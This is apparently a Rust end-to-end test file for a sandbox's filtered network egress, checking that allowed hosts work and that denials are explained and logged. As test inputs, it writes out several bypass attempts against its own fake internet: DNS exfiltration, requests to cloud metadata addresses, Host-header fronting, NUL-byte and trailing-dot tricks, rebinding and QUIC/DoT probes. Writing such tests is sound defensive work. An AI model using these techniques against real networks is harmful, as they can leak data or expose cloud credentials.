//! End-to-end filtered egress against a fake internet of the test's own (see common/internet.rs):
//! allowed names work with curl (HTTPS and HTTP), git and Python; everything else is denied below
//! the program — literal IPs, fronting, unset proxies, DNS exfiltration, rebinding, metadata,
//! DoT — and every denial is explained. Needs root (network namespaces, veth).

mod common;

use common::internet::Internet;
use common::{e2e, Airlock, Outcome};

thread_local! {
    /// When set, every run also binds a secret to this (allowed) host, so the attacks run with
    /// TLS interception and placeholder scanning on (`--secret ...;hosts=HOST;header=...`).
    static BOUND: std::cell::Cell<Option<&'static str>> = const { std::cell::Cell::new(None) };
}

fn run(a: &Airlock, inet: &Internet, allow: &[&str], cmd: &[&str]) -> Outcome {
    run_journaled(a, inet, allow, cmd).0
}

/// Run with `--net-log`; returns the outcome and the journal's lines (each checked to be JSON).
fn run_journaled(
    a: &Airlock,
    inet: &Internet,
    allow: &[&str],
    cmd: &[&str],
) -> (Outcome, Vec<serde_json::Value>) {
    let log = a.dir.join(format!("net-{}.jsonl", common::random_hex()));
    let log_s = log.display().to_string();
    let ro = format!("{}:/etc/airlock-test-ca.pem", inet.cert().display());
    let mut args = vec![
        "run",
        "--workspace",
        "none",
        "--net",
        "filtered",
        "--net-log",
        &log_s,
        "--ro",
        &ro,
    ];
    for d in allow {
        args.push("--allow");
        args.push(d);
    }
    let bound = BOUND.with(|b| b.get());
    let secret = bound.map(|h| format!("KEY=env:HOST_KEY;hosts={h};header=x-api-key"));
    let ca = inet.cert().display().to_string();
    let mut env = vec![("AIRLOCK_DNS_UPSTREAM", inet.dns.as_str())];
    if let (Some(h), Some(secret)) = (bound, &secret) {
        args.extend_from_slice(&["--allow", h, "--secret", secret]);
        env.extend([
            ("HOST_KEY", "real-key-value"),
            ("AIRLOCK_UPSTREAM_CA", ca.as_str()),
        ]);
    }
    args.push("--");
    args.extend_from_slice(cmd);
    let out = a.run_with_env(&env, &args);
    let text = std::fs::read_to_string(&log).unwrap_or_default();
    let journal = text
        .lines()
        .map(|l| {
            serde_json::from_str(l)
                .unwrap_or_else(|e| panic!("journal line is not JSON ({e}): {l}"))
        })
        .collect();
    (out, journal)
}

/// The journal has a `deny` entry about `host`.
fn journaled_deny(journal: &[serde_json::Value], host: &str) -> bool {
    journal.iter().any(|e| {
        e["decision"] == "deny"
            && (e["host"].as_str().is_some_and(|h| h.contains(host))
                || e["dst"].as_str().is_some_and(|d| d.contains(host)))
    })
}

fn curl(url: &str) -> Vec<&str> {
    vec![
        "curl",
        "-sS",
        "--max-time",
        "10",
        "--cacert",
        "/etc/airlock-test-ca.pem",
        url,
    ]
}

#[test]
fn allowed_names_work_over_https_and_http() {
    if !e2e("allowed_names_work_over_https_and_http") {
        return;
    }
    let inet = Internet::start(&["allowed.test"], &[]);
    let a = Airlock::root();
    let out = run(
        &a,
        &inet,
        &["allowed.test"],
        &curl("https://allowed.test/x"),
    );
    assert_eq!(out.code(), 0, "{}", out.describe());
    assert_eq!(out.stdout, "hello from allowed.test /x\n");
    let out = run(&a, &inet, &["allowed.test"], &curl("http://allowed.test/y"));
    assert_eq!(
        out.stdout,
        "hello from allowed.test /y\n",
        "{}",
        out.describe()
    );
    // Without the proxy variables the transparent path enforces the same policy.
    let out = run(
        &a,
        &inet,
        &["allowed.test"],
        &[
            "env",
            "-u",
            "HTTPS_PROXY",
            "-u",
            "https_proxy",
            "-u",
            "HTTP_PROXY",
            "-u",
            "http_proxy",
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--cacert",
            "/etc/airlock-test-ca.pem",
            "https://allowed.test/z",
        ],
    );
    assert_eq!(
        out.stdout,
        "hello from allowed.test /z\n",
        "{}",
        out.describe()
    );
}

#[test]
fn denied_names_get_an_explained_403_and_no_dns() {
    if !e2e("denied_names_get_an_explained_403_and_no_dns") {
        return;
    }
    denied_names();
}

/// The same attacks with a secret bound to allowed.test: interception on changes nothing.
#[test]
fn denied_names_with_a_bound_secret() {
    if !e2e("denied_names_with_a_bound_secret") {
        return;
    }
    BOUND.with(|b| b.set(Some("allowed.test")));
    denied_names();
}

fn denied_names() {
    let inet = Internet::start(&["allowed.test", "denied.test"], &[]);
    let a = Airlock::root();
    // Through the explicit proxy (curl honours HTTP_PROXY) and transparently.
    for env_unset in [false, true] {
        let mut cmd = vec![];
        if env_unset {
            cmd.extend_from_slice(&["env", "-u", "HTTP_PROXY", "-u", "http_proxy"]);
        }
        cmd.extend_from_slice(&[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "-o",
            "-",
            "-w",
            "%{http_code}",
            "http://denied.test/",
        ]);
        let out = run(&a, &inet, &["allowed.test"], &cmd);
        if env_unset {
            // The name does not even resolve inside: curl fails before connecting.
            assert_ne!(out.code(), 0, "{}", out.describe());
        } else {
            assert!(out.stdout.ends_with("403"), "{}", out.describe());
            assert!(
                out.stdout.contains("denied.test"),
                "the 403 must name the host: {}",
                out.stdout
            );
            assert!(
                out.stdout.contains("--allow denied.test"),
                "the 403 must say how to allow it: {}",
                out.stdout
            );
        }
    }
    // CONNECT through the explicit proxy to a denied name: refused and journaled.
    let (out, journal) = run_journaled(&a, &inet, &["allowed.test"], &curl("https://denied.test/"));
    assert_ne!(out.code(), 0, "{}", out.describe());
    assert!(
        journal
            .iter()
            .any(|e| e["kind"] == "connect" && e["decision"] == "deny"),
        "CONNECT denial not journaled: {journal:?}"
    );
    // DNS for a denied name is refused and never forwarded upstream (no exfiltration).
    let (out, journal) = run_journaled(
        &a,
        &inet,
        &["allowed.test"],
        &[
            "sh",
            "-c",
            "getent hosts exfil-secret-data.denied.test; getent hosts allowed.test",
        ],
    );
    assert!(
        out.stdout.contains(&inet.ip),
        "allowed names resolve: {}",
        out.describe()
    );
    assert!(!out.stdout.contains("exfil"), "{}", out.describe());
    assert!(
        journaled_deny(&journal, "exfil-secret-data.denied.test"),
        "DNS refusal not journaled: {journal:?}"
    );
    assert!(
        journal
            .iter()
            .any(|e| e["kind"] == "dns" && e["decision"] == "allow"),
        "allowed DNS answer not journaled: {journal:?}"
    );
    assert!(
        !inet.dns_log().contains("exfil"),
        "a denied name reached the upstream DNS server:\n{}",
        inet.dns_log()
    );
    // HTTPS to a denied name, even with its address forced, fails.
    let forced = format!("denied.test:443:{}", inet.ip);
    let out = run(
        &a,
        &inet,
        &["allowed.test"],
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--noproxy",
            "*",
            "--resolve",
            &forced,
            "--cacert",
            "/etc/airlock-test-ca.pem",
            "https://denied.test/",
        ],
    );
    assert_ne!(out.code(), 0, "{}", out.describe());
}

#[test]
fn literal_ips_fronting_rebinding_and_metadata_are_denied() {
    if !e2e("literal_ips_fronting_rebinding_and_metadata_are_denied") {
        return;
    }
    literal_ips_fronting_rebinding_and_metadata();
}

/// The same attacks with a secret bound to allowed.test: interception on changes nothing.
#[test]
fn literal_ips_fronting_rebinding_and_metadata_with_a_bound_secret() {
    if !e2e("literal_ips_fronting_rebinding_and_metadata_with_a_bound_secret") {
        return;
    }
    BOUND.with(|b| b.set(Some("allowed.test")));
    literal_ips_fronting_rebinding_and_metadata();
}

fn literal_ips_fronting_rebinding_and_metadata() {
    let inet = Internet::start(
        &["allowed.test"],
        &[
            ("rebind.test", "127.0.0.1"),
            ("meta.test", "169.254.169.254"),
            ("private.test", "10.0.0.1"),
        ],
    );
    let a = Airlock::root();
    let allow = ["allowed.test", "rebind.test", "meta.test", "private.test"];
    let noproxy = [
        "curl",
        "-sS",
        "--max-time",
        "10",
        "--noproxy",
        "*",
        "-o",
        "-",
        "-w",
        " %{http_code}",
    ];
    // A literal IP (in every spelling) is refused: the proxy only dials names it resolves itself.
    for url in [
        format!("http://{}/", inet.ip),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        "http://[::ffff:169.254.169.254]/".to_string(),
        "http://2852039166/".to_string(),
    ] {
        let mut cmd: Vec<&str> = noproxy.to_vec();
        cmd.push(&url);
        let (out, journal) = run_journaled(&a, &inet, &allow, &cmd);
        assert!(
            !out.stdout.contains("hello"),
            "{url} reached a server: {}",
            out.describe()
        );
        assert!(
            journal.iter().any(|e| e["decision"] == "deny"),
            "{url}: denial not journaled: {journal:?}"
        );
    }
    // A NUL byte or trailing-dot tricks in the Host header, and QUIC (UDP 443): refused.
    let py = r#"
import socket
for host in [b'allowed.test\x00.evil.test', b'evil.test.', b'allowed.test..']:
    s = socket.create_connection(('allowed.test', 80), timeout=5)
    s.sendall(b'GET / HTTP/1.1\r\nHost: ' + host + b'\r\n\r\n')
    print(s.recv(200).split(b'\r\n')[0].decode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
u.connect(('allowed.test', 443))
u.send(b'quic')
try:
    u.recv(10)
    print('quic answered')
except Exception:
    print('quic blocked')
"#;
    let (out, journal) = run_journaled(&a, &inet, &allow, &["python3", "-c", py]);
    let refused = out
        .stdout
        .lines()
        .filter(|l| l.contains(" 403 ") || l.contains(" 400 "))
        .count();
    assert_eq!(refused, 3, "{}", out.describe());
    assert!(out.stdout.contains("quic blocked"), "{}", out.describe());
    assert!(journaled_deny(&journal, "evil.test"), "{journal:?}");
    // Fronting: allowed destination, other Host header.
    let url = "http://allowed.test/";
    let mut cmd: Vec<&str> = noproxy.to_vec();
    cmd.extend_from_slice(&["-H", "Host: evil.test", url]);
    let out = run(&a, &inet, &allow, &cmd);
    assert!(out.stdout.ends_with("403"), "{}", out.describe());
    // A forced address never matters: the host side dials the name's real address.
    let forced = "allowed.test:80:203.0.113.9";
    let mut cmd: Vec<&str> = noproxy.to_vec();
    cmd.extend_from_slice(&["--resolve", forced, url]);
    let out = run(&a, &inet, &allow, &cmd);
    assert!(
        out.stdout.contains("hello from allowed.test"),
        "{}",
        out.describe()
    );
    // Rebinding: allowed names that answer private/loopback/metadata addresses get nowhere.
    for name in ["rebind.test", "meta.test", "private.test"] {
        let url = format!("http://{name}/");
        let mut cmd: Vec<&str> = noproxy.to_vec();
        cmd.push(&url);
        let out = run(&a, &inet, &allow, &cmd);
        assert!(!out.stdout.contains("hello"), "{name}: {}", out.describe());
    }
    // The metadata name is refused in DNS whatever the allowlist says.
    let out = run(
        &a,
        &inet,
        &["metadata.google.internal"],
        &["getent", "hosts", "metadata.google.internal"],
    );
    assert_ne!(out.code(), 0, "{}", out.describe());
    // DoT and other ports: nothing listens, nothing gets out.
    let py = format!("import socket\ns=socket.socket(); s.settimeout(3)\ntry:\n  s.connect(('{}', 853)); print('connected')\nexcept Exception as e: print('blocked', e)", inet.ip);
    let out = run(&a, &inet, &allow, &["python3", "-c", &py]);
    assert!(out.stdout.starts_with("blocked"), "{}", out.describe());
}

#[test]
fn git_and_python_clients_work_for_allowed_names() {
    if !e2e("git_and_python_clients_work_for_allowed_names") {
        return;
    }
    let inet = Internet::start(&["git.test"], &[]);
    // A bare repository served over dumb HTTP.
    let work = common::TempDir::new("gitsrc");
    let sh = |c: &str| {
        let st = std::process::Command::new("sh")
            .arg("-c")
            .arg(c)
            .status()
            .expect("sh");
        assert!(st.success(), "{c}");
    };
    sh(&format!(
        "cd {w} && git init -q src && cd src && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m first && git clone -q --bare . {f}/repo.git && cd {f}/repo.git && git update-server-info",
        w = work.path().display(),
        f = inet.files().display()
    ));
    let a = Airlock::root();
    let out = run(&a, &inet, &["git.test"], &["sh", "-c", "cd /tmp && GIT_SSL_CAINFO=/etc/airlock-test-ca.pem git clone -q https://git.test/files/repo.git r && git -C r log --format=%s"]);
    assert_eq!(out.stdout, "first\n", "{}", out.describe());
    let py = "import urllib.request,ssl\nctx=ssl.create_default_context(cafile='/etc/airlock-test-ca.pem')\nprint(urllib.request.urlopen('https://git.test/py', context=ctx, timeout=10).read().decode().strip())";
    let out = run(&a, &inet, &["git.test"], &["python3", "-c", py]);
    assert_eq!(
        out.stdout,
        "hello from git.test /py\n",
        "{}",
        out.describe()
    );
}

#[test]
fn rootless_filtered_egress_allows_and_denies() {
    if !e2e("rootless_filtered_egress_allows_and_denies") {
        return;
    }
    let inet = Internet::start(&["allowed.test"], &[]);
    let user = common::test_user();
    let bins = common::Bins::owned_by(&user);
    let a = Airlock::rootless(&bins);
    // The certificate must be readable by the test user for the --ro bind.
    let cert_dir = common::TempDir::new("cert");
    let cert = cert_dir.join("ca.pem");
    std::fs::copy(inet.cert(), &cert).expect("copy cert");
    common::set_mode(&cert, 0o644);
    cert_dir.chown_to(&user);
    common::set_mode(cert_dir.path(), 0o755);
    let ro = format!("{}:/etc/airlock-test-ca.pem", cert.display());
    let args = ["run", "--workspace", "none", "--allow", "allowed.test", "--ro", &ro, "--", "sh", "-c",
        "curl -sS --max-time 10 --cacert /etc/airlock-test-ca.pem https://allowed.test/ok; curl -sS --max-time 10 -o /dev/null -w '%{http_code}\\n' http://denied.test/"];
    let out = a.run_with_env(&[("AIRLOCK_DNS_UPSTREAM", &inet.dns)], &args);
    assert_eq!(
        out.stdout,
        "hello from allowed.test /ok\n403\n",
        "{}",
        out.describe()
    );
    assert!(
        out.stderr.contains("blocked denied.test"),
        "{}",
        out.describe()
    );
}

/// Open mode: outbound works (through pasta, user-mode networking), but the metadata floor holds
/// and the host's loopback services stay out of reach.
fn open_mode(a: &Airlock, inet: &Internet, label: &str) {
    let host_lo = std::net::TcpListener::bind("127.0.0.1:0").expect("host loopback listener");
    host_lo.set_nonblocking(true).expect("nonblocking");
    let port = host_lo.local_addr().expect("addr").port();
    let script = format!(
        "curl -sS --max-time 10 http://{ip}/open; \
         curl -sS --max-time 3 -o /dev/null -w 'meta %{{http_code}}\\n' http://169.254.169.254/ 2>/dev/null; \
         curl -sS --max-time 3 -o /dev/null -w 'alibaba %{{http_code}}\\n' http://100.100.100.200/ 2>/dev/null; \
         curl -sS --max-time 3 -o /dev/null -w 'hostlo %{{http_code}}\\n' http://127.0.0.1:{port}/ 2>/dev/null; true",
        ip = inet.ip
    );
    let out = a.run(&[
        "run",
        "--workspace",
        "none",
        "--net",
        "open",
        "--",
        "sh",
        "-c",
        &script,
    ]);
    assert_eq!(out.code(), 0, "{label}: {}", out.describe());
    assert!(
        out.stdout
            .starts_with(&format!("hello from {} /open\n", inet.ip)),
        "{label}: {}",
        out.describe()
    );
    for blocked in ["meta 000", "alibaba 000", "hostlo 000"] {
        assert!(
            out.stdout.contains(blocked),
            "{label}: expected `{blocked}`: {}",
            out.describe()
        );
    }
    assert!(
        host_lo.accept().is_err(),
        "{label}: the host's loopback listener was reached"
    );
}

#[test]
fn open_mode_reaches_out_but_not_metadata_or_host_loopback() {
    if !e2e("open_mode_reaches_out_but_not_metadata_or_host_loopback") {
        return;
    }
    let inet = Internet::start(&["open.test"], &[]);
    open_mode(&Airlock::root(), &inet, "rootful");
    let user = common::test_user();
    let bins = common::Bins::owned_by(&user);
    let rootless = Airlock::rootless(&bins);
    // pasta needs /dev/net/tun; some hosts (this CI VM: mode 0600) keep it from ordinary users.
    let tun_ok = std::process::Command::new("runuser")
        .args([
            "-u",
            &user.name,
            "--",
            "sh",
            "-c",
            "test -r /dev/net/tun -a -w /dev/net/tun",
        ])
        .status()
        .is_ok_and(|s| s.success());
    if tun_ok {
        open_mode(&rootless, &inet, "rootless");
    } else {
        let out = rootless.run(&["run", "--workspace", "none", "--net", "open", "--", "true"]);
        assert_ne!(out.code(), 0, "{}", out.describe());
        assert!(
            out.stderr.contains("/dev/net/tun"),
            "the refusal must name /dev/net/tun: {}",
            out.describe()
        );
        println!(
            "note: rootless open mode not exercised: /dev/net/tun is not usable by {}",
            user.name
        );
    }
}

/// Many filtered sandboxes at once: no address slots to run out of, no shared firewall state;
/// each one reaches its allowed name and is refused the rest.
#[test]
fn fifty_concurrent_filtered_sandboxes_do_not_collide() {
    if !e2e("fifty_concurrent_filtered_sandboxes_do_not_collide") {
        return;
    }
    let inet = Internet::start(&["allowed.test"], &[]);
    let a = std::sync::Arc::new(Airlock::root());
    let inet = std::sync::Arc::new(inet);
    let handles: Vec<_> = (0..50)
        .map(|i| {
            let (a, inet) = (a.clone(), inet.clone());
            std::thread::spawn(move || {
                let url = format!("http://allowed.test/{i}");
                let out = run(&a, &inet, &["allowed.test"], &["sh", "-c", &format!("curl -sS --max-time 20 {url}; curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' http://denied.test/")]);
                (i, out)
            })
        })
        .collect();
    for h in handles {
        let (i, out) = h.join().expect("thread");
        assert_eq!(
            out.stdout,
            format!("hello from allowed.test /{i}\n403"),
            "sandbox {i}: {}",
            out.describe()
        );
    }
}

/// Named sandboxes get the same egress enforcement (served by their supervisor), and their
/// journal is readable with `airlock logs --net`.
#[test]
fn named_sandboxes_are_filtered_too() {
    if !e2e("named_sandboxes_are_filtered_too") {
        return;
    }
    let inet = Internet::start(&["allowed.test"], &[]);
    let a = Airlock::root();
    let env = [("AIRLOCK_DNS_UPSTREAM", inet.dns.as_str())];
    let run = |args: &[&str]| a.run_with_env(&env, args);
    let out = run(&["create", "netbox", "--allow", "allowed.test"]);
    assert_eq!(out.code(), 0, "{}", out.describe());
    assert_eq!(run(&["start", "netbox"]).code(), 0);
    let out = run(&[
        "exec",
        "netbox",
        "--",
        "curl",
        "-sS",
        "--max-time",
        "10",
        "http://allowed.test/named",
    ]);
    assert_eq!(
        out.stdout,
        "hello from allowed.test /named\n",
        "{}",
        out.describe()
    );
    let out = run(&[
        "exec",
        "netbox",
        "--",
        "curl",
        "-sS",
        "--max-time",
        "10",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "http://denied.test/",
    ]);
    assert_eq!(out.stdout, "403", "{}", out.describe());
    let out = run(&["logs", "--net", "netbox"]);
    assert!(
        out.stdout
            .lines()
            .any(|l| l.contains("denied.test") && l.contains("\"deny\"")),
        "{}",
        out.describe()
    );
    assert!(
        out.stdout
            .lines()
            .any(|l| l.contains("allowed.test") && l.contains("\"allow\"")),
        "{}",
        out.describe()
    );
    assert_eq!(run(&["rm", "--force", "netbox"]).code(), 0);
    common::stop_engines_of(&a);
}
